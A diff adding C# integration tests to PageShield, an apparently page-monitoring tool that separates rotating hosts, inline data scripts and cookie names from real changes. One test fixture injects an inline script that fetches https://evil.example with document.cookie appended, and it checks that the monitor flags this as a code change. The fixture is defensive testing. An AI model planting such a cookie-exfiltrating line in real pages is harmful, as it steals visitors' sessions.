@@ -1,0 +1,115 @@
+using Microsoft.EntityFrameworkCore;
+using PageShield.Changes;
+using PageShield.Crawls;
+using PageShield.Inventory;
+using static PageShield.IntegrationTests.Inventory.Captures;
+
+namespace PageShield.IntegrationTests.Changes;
+
+/// <summary>What differs on every visit is one thing in the inventory, and no news.</summary>
+public sealed class NoiseTests
+{
+    private const string Home = "https://shop.example/";
+    private const string Library = "window.serve=function(slot){return document.getElementById('slot-'+slot)};";
+
+    private static CancellationToken Cancel => TestContext.Current.CancellationToken;
+
+    [Theory]
+    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
+    public async Task Hosts_that_a_vendor_makes_up_are_one_group(Provider provider)
+    {
+        await using var site = await WatchedSite.CreateAsync(provider);
+        await site.CrawlAsync(Visit("edge1", "7xqbacjqld8v9vmxj", "5127406"));
+
+        var changes = await site.CrawlAsync(Visit("edge2", "f3dv65m2ltbr7jpg", "3359016"));
+
+        Assert.Empty(changes);
+        await using var context = site.Open();
+        var script = Assert.Single(await context.Scripts.ToListAsync(Cancel));
+        Assert.Equal(("https://edge{n}.ads.example/serve.js", "edge2.ads.example", "https://edge2.ads.example/serve.js"), (script.UrlTemplate, script.Host, script.Url));
+        Assert.Equal(["https://{id}.fls.example/", "https://{token}.track.example/clear.png"], (await context.Connections.Select(row => row.UrlTemplate).ToListAsync(Cancel)).Order(StringComparer.Ordinal));
+
+        static Capture Visit(string edge, string token, string account) => Of(Home, (File($"https://{edge}.ads.example/serve.js"), Library)) with
+        {
+            Connections = [To($"https://{token}.track.example/clear.png", ConnectionType.Image), To($"https://{account}.fls.example/", ConnectionType.Iframe)],
+            Frames = [new CapturedFrame($"https://{account}.fls.example/", Home, false)],
+        };
+    }
+
+    [Fact]
+    public async Task A_domain_with_many_hosts_makes_them_up_whatever_they_look_like_and_another_domain_is_news()
+    {
+        await using var site = await WatchedSite.CreateAsync(Provider.Sqlite);
+        await site.CrawlAsync(Of(Home) with { Connections = [.. new[] { "brave", "calm", "dark", "easy", "fair" }.Select(word => To($"https://{word}.pool.example/p", ConnectionType.Fetch))] });
+
+        var changes = await site.CrawlAsync(Of(Home) with { Connections = [To("https://glad.pool.example/p", ConnectionType.Fetch), To("https://glad.evil.example/p", ConnectionType.Fetch)] });
+
+        Assert.Equal("glad.evil.example", Assert.Single(changes).Subject);
+    }
+
+    [Fact]
+    public async Task A_script_that_was_known_by_one_host_goes_on_as_the_group()
+    {
+        await using var site = await WatchedSite.CreateAsync(Provider.Sqlite);
+        await site.CrawlAsync(Of(Home, (File("https://edge1.ads.example/serve.js"), Library)));
+        await using (var context = site.Open())
+        {
+            // As an earlier version of the program stored it.
+            var script = await context.Scripts.SingleAsync(Cancel);
+            (script.UrlTemplate, script.ReportTemplate) = ("https://edge1.ads.example/serve.js", "https://edge1.ads.example/serve.js");
+            script.Identity = ScriptIdentity.OfUrl(ScriptKind.External, script.UrlTemplate);
+            await context.SaveChangesAsync(Cancel);
+        }
+
+        Assert.Empty(await site.CrawlAsync(Of(Home, (File("https://edge1.ads.example/serve.js"), Library))));
+        Assert.Empty(await site.CrawlAsync(Of(Home, (File("https://edge2.ads.example/serve.js"), Library))));
+        Assert.Equal(1, (await site.ScriptAsync("https://edge{n}.ads.example/serve.js")).VersionCount);
+    }
+
+    [Theory]
+    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
+    public async Task Inline_texts_that_only_hand_values_on_are_one_script_however_many_there_are(Provider provider)
+    {
+        await using var site = await WatchedSite.CreateAsync(provider);
+        await site.CrawlAsync(Of(Home, Flight(1), Flight(2)));
+
+        Assert.All(await site.CrawlAsync(Of(Home, Flight(3), Flight(4), Flight(5))), change => Assert.Equal(ChangeClass.Data, change.Class));
+        Assert.Empty(await site.CrawlAsync(Of(Home, Flight(6))));
+        await using (var context = site.Open())
+            Assert.Equal(ScriptVariation.Generated, (await context.Scripts.SingleAsync(Cancel)).Variation);
+
+        var attack = await site.CrawlAsync(Of(Home, Flight(7), (Inline(Home, "script:nth(2)"), "self.__next_f.push([8,'x']);fetch('https://evil.example/?'+document.cookie)")));
+        Assert.Contains(attack, change => change.Class >= ChangeClass.Code);
+
+        static (CapturedScript, string) Flight(int number) => (Inline(Home, $"script:nth({number})"), $"self.__next_f.push([{number},\"{new string('x', number)}\"{(number % 2 == 0 ? ",{a:1}" : "")}])");
+    }
+
+    [Fact]
+    public async Task A_cookie_with_another_name_on_each_visit_is_one_cookie_and_a_name_that_stays_is_kept()
+    {
+        await using var site = await WatchedSite.CreateAsync(Provider.Sqlite);
+        await site.CrawlAsync(Visit("sess_43e02e560b5e", "_ga_7F3Q1796058"));
+
+        Assert.Empty(await site.CrawlAsync(Visit("sess_6c8209c845cb", "_ga_7F3Q1796058")));
+        Assert.Empty(await site.CrawlAsync(Visit("sess_5edf0528d88b", "_ga_7F3Q1796058")));
+        Assert.Single(await site.CrawlAsync(Visit("sess_81ce0310e843", "_ga_7F3Q1796058", "other")));
+
+        await using var context = site.Open();
+        Assert.Equal(["_ga_7F3Q1796058", "other", "sess_{hash}"], (await context.Cookies.Select(cookie => cookie.Name).ToListAsync(Cancel)).Order(StringComparer.Ordinal));
+
+        static Capture Visit(params string[] names) => Of(Home) with { Cookies = [.. names.Select(name => new CapturedCookie { Name = name, Domain = "shop.example", Path = "/" })] };
+    }
+
+    [Fact]
+    public async Task What_could_not_be_loaded_is_not_said_to_run()
+    {
+        await using var site = await WatchedSite.CreateAsync(Provider.Sqlite);
+        await site.CrawlAsync(Of(Home));
+
+        var changes = await site.CrawlAsync(Of(Home) with { Scripts = [File("https://cdn.example/reviews.js") with { Id = 1, Ran = false, NotRunReason = NotRunReason.Network }] });
+
+        Assert.Contains(changes, change => change.Kind == ChangeKind.ScriptAdded && change.Summary == "https://shop.example/ asks for a new script file from cdn.example, which could not be loaded.");
+    }
+
+    private static CapturedConnection To(string url, ConnectionType type) => new() { Url = url, Host = new Uri(url).Host, Method = "GET", Type = type, Initiator = "" };
+}
